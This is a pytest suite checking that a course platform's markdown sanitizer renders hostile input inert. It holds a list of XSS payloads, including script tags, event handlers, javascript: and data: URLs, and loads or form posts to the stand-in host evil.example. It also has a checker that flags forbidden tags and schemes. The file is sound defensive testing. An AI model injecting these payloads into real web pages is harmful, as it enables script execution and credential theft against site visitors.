"""Markdown from a course can never put running code or third-party loads on a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from academy.content import markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<img src="images/a.png" onerror=alert(1)>',
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">klick</a>',
    '<a href="JaVaScRiPt:alert(1)">klick</a>',
    '<a href="&#106;avascript:alert(1)">klick</a>',
    "[klick](javascript:alert(1))",
    "[klick](JAVASCRIPT:alert(1))",
    "[klick](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![bild](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- x --!><img src=x onerror=alert(1)>",
    '<form action="https://evil.example"><input type="password" name="p"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<img src="https://tracker.example/pixel.gif">',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
]
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "meta",
    "base",
    "link",
    "style",
    "svg",
    "math",
    "frame",
    "frameset",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}


class Elements(HTMLParser):
    """Every start tag and its attributes, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def dangers(html: str) -> list[str]:
    parser = Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.found:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"tag {tag}")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                problems.append(f"attribute {name}")
            if name in URL_ATTRIBUTES and (
                re.match(r"(javascript|vbscript|data):", value)
                or re.match(r"(https?:)?//(evil|tracker)", value)
            ):
                problems.append(f"{name}={value}")
    return problems


def render(source: str) -> str:
    ctx = markdown.Context(
        path=Path("/tmp/kurs/01-a.md"),
        course_dir=Path("/tmp/kurs"),
        language="de",
        media_url="/courses/kurs/media/",
        module_url=lambda name: None,
    )
    tokens, env = markdown.parse(source, ctx)
    return markdown.render(tokens, env, ctx)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_comes_out_inert(payload):
    html = render(f"Absatz davor.\n\n{payload}\n\nAbsatz danach.")
    assert dangers(html) == [], html
    assert "Absatz danach." in html  # the rest of the page survives


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_inline_in_paragraph(payload):
    html = render(f"Text {payload} Text")
    assert dangers(html) == [], html


def test_the_checker_itself_finds_dangers():
    assert dangers('<a href="javascript:x">a</a><img src=x onerror=y><script></script>') == [
        "href=javascript:x",
        "attribute onerror",
        "tag script",
    ]


def test_harmless_formatting_survives():
    html = render(
        "**fett** *kursiv* `code` <kbd>Strg</kbd> H<sub>2</sub>O\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n"
    )
    assert "<strong>fett</strong>" in html
    assert "<kbd>Strg</kbd>" in html
    assert "<sub>2</sub>" in html
    assert '<th class="align-right">a</th>' in html


def test_external_links_get_noopener():
    html = render("[Quelle](https://eur-lex.europa.eu/)")
    assert 'href="https://eur-lex.europa.eu/"' in html
    assert 'rel="noopener noreferrer"' in html


def test_raw_image_from_other_host_loses_its_source():
    html = render('<img src="https://tracker.example/p.gif" alt="x">')
    assert "tracker.example" not in html


def test_each_course_keeps_its_own_media_rule():
    """The sanitizer is built once per media URL and kept: a course's files stay its
    own, also after another course's sanitizer was used."""
    image = '<img src="/courses/a/media/bild.png" alt="x">'
    for _ in range(2):
        assert 'src="/courses/a/media/bild.png"' in markdown.sanitize(image, "/courses/a/media/")
        assert "src=" not in markdown.sanitize(image, "/courses/b/media/")
